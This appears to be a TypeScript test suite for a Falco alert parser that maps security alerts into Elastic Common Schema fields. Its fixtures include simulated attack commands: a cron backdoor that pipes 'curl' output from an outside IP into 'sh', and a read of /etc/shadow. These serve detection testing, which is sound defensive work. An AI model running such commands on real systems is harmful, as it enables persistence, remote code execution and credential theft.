import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { falco } from '../../../parsers/falco/index.ts';
import type { EcsEvent } from '../../../parsers/kit/ecs.ts';
import { normalize } from '../../../src/normalize/index.ts';
import { normalized } from '../json/property-kit.ts';

const fixture = (name: string) => readFileSync(new URL(`../../../fixtures/falco/${name}`, import.meta.url), 'utf8');
const one = (body: string): EcsEvent => {
  const events = normalized('falco', body);
  assert.equal(events.length, 1);
  return events[0];
};
const alert = (extra: Record<string, unknown>, fields: Record<string, unknown> = {}) => JSON.stringify({
  hostname: 'node-1', output: 'out', priority: 'Notice', rule: 'Some rule', source: 'syscall',
  time: '2025-03-14T09:26:53.589793238Z', output_fields: fields, ...extra,
});

test('falco: integers beyond 2^53 keep every digit all the way to the sinks', () => {
  const out = JSON.stringify(one(fixture('terminal-shell-in-container.json')));
  assert.ok(out.includes('"evt.time":1741944413589793238'), 'output_fields keeps the digits');
  assert.ok(!out.includes('1741944413589793300'), 'no rounded copy anywhere');
});

test('falco: @timestamp keeps all nine fractional digits of time', () => {
  assert.equal(one(fixture('terminal-shell-in-container.json'))['@timestamp'], '2025-03-14T09:26:53.589793238Z');
});

test("falco: a Falcosidekick time with trimmed zeros is accepted", () => {
  assert.equal(one(fixture('sidekick-webhook-contact-k8s-api.json'))['@timestamp'], '2025-03-14T10:20:12.030Z');
});

test('falco: without a usable time, @timestamp comes from the evt.time nanoseconds', () => {
  const body = '{"rule":"r","priority":"Notice","time":"garbage","output_fields":{"evt.time":1741944413589793238}}';
  assert.equal(one(body)['@timestamp'], '2025-03-14T09:26:53.589793238Z');
});

const priorities: [string, number, string][] = [
  ['Emergency', 7, 'emergency'], ['Alert', 6, 'alert'], ['Critical', 5, 'critical'], ['Error', 4, 'error'],
  ['Warning', 3, 'warning'], ['Notice', 2, 'notice'], ['Informational', 1, 'info'], ['Debug', 0, 'debug'],
];

for (const [priority, severity, level] of priorities) {
  test(`falco: priority ${priority} is severity ${severity} and log.level ${level}`, () => {
    const event = one(alert({ priority }));
    assert.equal(event.event?.severity, severity);
    assert.equal(event.log?.level, level);
  });
}

test('falco: an unknown priority sets no severity', () => {
  const event = one(alert({ priority: 'Loud' }));
  assert.equal(event.event?.severity, undefined);
  assert.equal(event.log?.level, undefined);
});

test('falco: maps the alert like Elastic’s Falco integration', () => {
  const event = one(fixture('read-sensitive-file-untrusted-iso8601.json'));
  assert.equal(event.event?.kind, 'alert');
  assert.equal(event.event?.module, 'falco');
  assert.equal(event.event?.dataset, 'falco.alerts');
  assert.equal(event.event?.provider, 'syscall');
  assert.equal(event.rule?.name, 'Read sensitive file untrusted');
  assert.deepEqual(event.observer, { hostname: 'node-7', vendor: 'sysdig', product: 'falco', type: 'sensor' });
  assert.match(event.message ?? '', /^2025-03-14T09:31:07\.112358132\+0000: Warning Sensitive file opened/);
  assert.deepEqual(event.host, { name: 'node-7' }, 'the Falco node is the host, for Kibana\'s host views');
  assert.deepEqual(event.process, {
    name: 'cat', executable: '/usr/bin/cat', command_line: 'cat /etc/shadow', parent: { name: 'bash' }, user: { id: '0', name: 'root' },
  });
  assert.deepEqual(event.user, { name: 'root', id: '0' });
  assert.deepEqual(event.container, { id: '3ad7b26ded6d', name: 'payments-api', image: { name: 'registry.example.com/payments/api', tag: ['2.4.1'] } });
  assert.deepEqual(event.orchestrator, {
    type: 'kubernetes', namespace: 'payments',
    resource: { name: 'payments-api-7d9c8f5b6-x2x7q', type: 'pod', parent: { type: 'Deployment' } },
  });
  assert.deepEqual(event.kubernetes, {
    pod: { name: 'payments-api-7d9c8f5b6-x2x7q' }, namespace: 'payments',
    replicaset: { name: 'payments-api-7d9c8f5b6' }, deployment: { name: 'payments-api' },
  });
  assert.deepEqual(event.file, { path: '/etc/shadow', name: 'shadow' });
  assert.deepEqual(event.threat, { framework: 'MITRE ATT&CK', tactic: { id: ['TA0006'], name: ['Credential Access'] }, technique: { id: ['T1555'], name: ['Credentials from Password Stores'] } });
});

test('falco: keeps the alert under falco.* with output_fields keys verbatim, nulls included', () => {
  const body = fixture('read-sensitive-file-untrusted-iso8601.json');
  const event = one(body);
  const native = event.falco as Record<string, unknown>;
  const source = JSON.parse(body);
  for (const key of ['rule', 'priority', 'source', 'tags', 'hostname', 'output', 'time']) assert.deepEqual(native[key], source[key], key);
  const fields = native.output_fields as Record<string, unknown>;
  assert.deepEqual(Object.keys(fields), Object.keys(source.output_fields));
  assert.equal(fields['proc.aname[4]'], null);
});

test('falco: a host event has no container and no orchestrator', () => {
  const event = one(fixture('write-below-etc-host.json'));
  assert.equal(event.container, undefined);
  assert.equal(event.orchestrator, undefined);
  assert.equal(event.file?.path, '/etc/cron.d/backdoor');
  assert.equal(event.process?.parent?.command_line, "bash -c echo '* * * * * root curl -s http://203.0.113.7/x | sh' > /etc/cron.d/backdoor");
});

test('falco: a pod whose name has no controller shape is a pod without an owner', () => {
  const event = one(alert({}, { 'k8s.pod.name': 'debug-shell', 'k8s.ns.name': 'default', 'container.id': 'abc123' }));
  assert.deepEqual(event.orchestrator?.resource, { type: 'pod', name: 'debug-shell' });
  assert.equal(event.kubernetes, undefined);
});

test('falco: a StatefulSet pod names its owner', () => {
  const event = one(alert({}, { 'k8s.pod.name': 'web-10', 'k8s.ns.name': 'default', 'container.id': 'abc123' }));
  assert.deepEqual(event.orchestrator?.resource, { name: 'web-10', type: 'pod', parent: { type: 'StatefulSet' } });
  assert.deepEqual(event.kubernetes, { pod: { name: 'web-10' }, namespace: 'default', statefulset: { name: 'web' } });
});

test('falco: a socket alert maps source and destination, not a file', () => {
  const event = one(fixture('sidekick-webhook-contact-k8s-api.json'));
  assert.deepEqual(event.source, { ip: '10.244.3.17', port: 48122 });
  assert.deepEqual(event.destination, { ip: '10.96.0.1', port: 443 });
  assert.equal(event.network?.transport, 'tcp');
  assert.equal(event.file, undefined);
  assert.deepEqual(event.event?.category, ['process', 'network']);
  assert.deepEqual(event.event?.type, ['connection']);
});

test('falco: fd.lip and fd.rip are used as given and invalid addresses are dropped', () => {
  const event = one(alert({}, { 'fd.lip': '192.0.2.1', 'fd.lport': '5000', 'fd.rip': 'not-an-ip', 'fd.rport': 53, 'fd.type': 'ipv4' }));
  assert.deepEqual(event.source, { ip: '192.0.2.1', port: 5000 });
  assert.deepEqual(event.destination, { port: 53 });
});

test('falco: process ids given as numbers or digit strings become numbers', () => {
  const event = one(alert({}, { 'proc.pid': '4242', 'proc.ppid': 1, 'proc.name': 'sh' }));
  assert.equal(event.process?.pid, 4242);
  assert.equal(event.process?.parent?.pid, 1);
});

test('falco: a k8s_audit alert maps the audit target and is an api event', () => {
  const event = one(fixture('k8saudit-attach-exec-pod.json'));
  assert.equal(event.user?.name, 'alice@example.com');
  assert.deepEqual(event.orchestrator, { type: 'kubernetes', namespace: 'payments', resource: { type: 'pods/exec', name: 'payments-api-7d9c8f5b6-x2x7q' } });
  assert.deepEqual(event.event?.category, ['api']);
});

test('falco: an internal alert is an event, not an alert, and needs no tags', () => {
  const event = one(fixture('internal-syscall-event-drop.json'));
  assert.equal(event.event?.kind, 'event');
  assert.equal(event.event?.provider, 'internal');
  assert.equal(event.event?.severity, 0);
  assert.equal(event.threat, undefined);
  assert.equal((event.falco as Record<string, unknown>).tags, undefined);
});

test('falco: the Falcosidekick uuid makes redeliveries share one event.id', () => {
  const body = fixture('sidekick-webhook-contact-k8s-api.json');
  const at = (receivedAt: number, peer: string) => normalize({ format: 'falco', text: body, receivedAt, input: 'http', listener: 'http', peer })[0].event?.id;
  assert.equal(at(1, '192.0.2.1:1000'), at(2, '192.0.2.2:2000'));
  const other = body.replace('5b0e6c8a-3d4f', '00000000-3d4f');
  assert.notEqual(normalize({ format: 'falco', text: other, receivedAt: 1, input: 'http', listener: 'http', peer: '192.0.2.1:1000' })[0].event?.id, at(1, '192.0.2.1:1000'));
});

test('falco: without a uuid, two receptions of the same alert get different ids', () => {
  const body = fixture('terminal-shell-in-container.json');
  const at = (receivedAt: number) => normalize({ format: 'falco', text: body, receivedAt, input: 'http', listener: 'http', peer: '192.0.2.1:1000' })[0].event?.id;
  assert.notEqual(at(1), at(2));
});

test('falco: the original is the body, byte for byte', () => {
  const body = fixture('write-below-etc-host.json');
  assert.equal(one(body).event?.original, body);
});

test('falco: a text body fails as not JSON but keeps its priority', () => {
  const body = fixture('text-output.txt');
  const result = falco.parse(body, { receivedAt: 0 });
  assert.equal(result.ok, false);
  assert.equal(!result.ok && result.reason, 'falco body is not JSON but a text alert: set json_output: true in falco.yaml');
  const event = one(body);
  assert.ok(event.tags?.includes('parse_failure'));
  assert.equal(event.event?.severity, 2);
  assert.equal(event.event?.original, body);
});

test('falco: a text body with an ISO 8601 prefix keeps its time too', () => {
  const event = one('2025-03-14T09:31:07.112358132+0000: Warning Sensitive file opened for reading');
  assert.equal(event['@timestamp'], '2025-03-14T09:31:07.112358132Z');
  assert.equal(event.log?.level, 'warning');
});

const notAlerts: { name: string; body: string; reason: RegExp }[] = [
  { name: 'an array', body: '[{"rule":"r"}]', reason: /^falco body is not a JSON object$/ },
  { name: 'an object without a rule', body: '{"priority":"Notice","output_fields":{}}', reason: /^falco alert has no "rule"$/ },
  { name: 'an object whose rule is not a string', body: '{"rule":7}', reason: /^falco alert has no "rule"$/ },
  { name: 'an empty body', body: '', reason: /^falco body is not JSON: invalid JSON: Unexpected end of JSON input$/ },
  { name: 'a truncated alert', body: '{"rule":"r","priority":"No', reason: /^falco body is not JSON: invalid JSON at position \d+: Unterminated string$/ },
];

for (const c of notAlerts) {
  test(`falco: ${c.name} fails with a reason`, () => {
    const result = falco.parse(c.body, { receivedAt: 0 });
    assert.equal(result.ok, false);
    assert.match(!result.ok ? result.reason : '', c.reason);
  });
}

const claims: { name: string; msg: string; claimed: boolean }[] = [
  { name: 'a Falco alert', msg: fixture('terminal-shell-in-container.json'), claimed: true },
  { name: 'a Falco alert after spaces', msg: `  ${fixture('write-below-etc-host.json')}`, claimed: true },
  { name: 'JSON without output_fields', msg: '{"rule":"r","priority":"Notice"}', claimed: false },
  { name: 'the text output', msg: fixture('text-output.txt'), claimed: false },
  { name: 'other JSON', msg: '{"level":"info","msg":"hello"}', claimed: false },
];

for (const c of claims) {
  test(`falco: claims ${c.name}: ${c.claimed}`, () => assert.equal(falco.claims!(c.msg, {}), c.claimed));
}

test('falco: process.user comes from user.uid/user.name only, never from the audit user', () => {
  const [event] = normalized('falco', alert({}, { 'user.uid': 1000, 'user.name': 'dev', 'ka.user.name': 'admin' }));
  assert.deepEqual(event.process?.user, { id: '1000', name: 'dev' });
  const [audit] = normalized('falco', alert({ source: 'k8s_audit' }, { 'ka.user.name': 'admin' }));
  assert.equal(audit.process, undefined);
  assert.deepEqual(audit.user, { name: 'admin' });
  const [unresolved] = normalized('falco', alert({}, { 'user.uid': null, 'user.name': null, 'proc.name': 'sh' }));
  assert.deepEqual(unresolved.process, { name: 'sh' }, 'null (unresolvable) fields are skipped');
});

test('falco: host.name is the Falco hostname, beside observer.hostname', () => {
  const [event] = normalized('falco', alert({ hostname: 'worker-3' }));
  assert.deepEqual(event.host, { name: 'worker-3' });
  assert.equal(event.observer?.hostname, 'worker-3');
  const [noHost] = normalized('falco', alert({ hostname: undefined }));
  assert.equal(noHost.host, undefined);
});
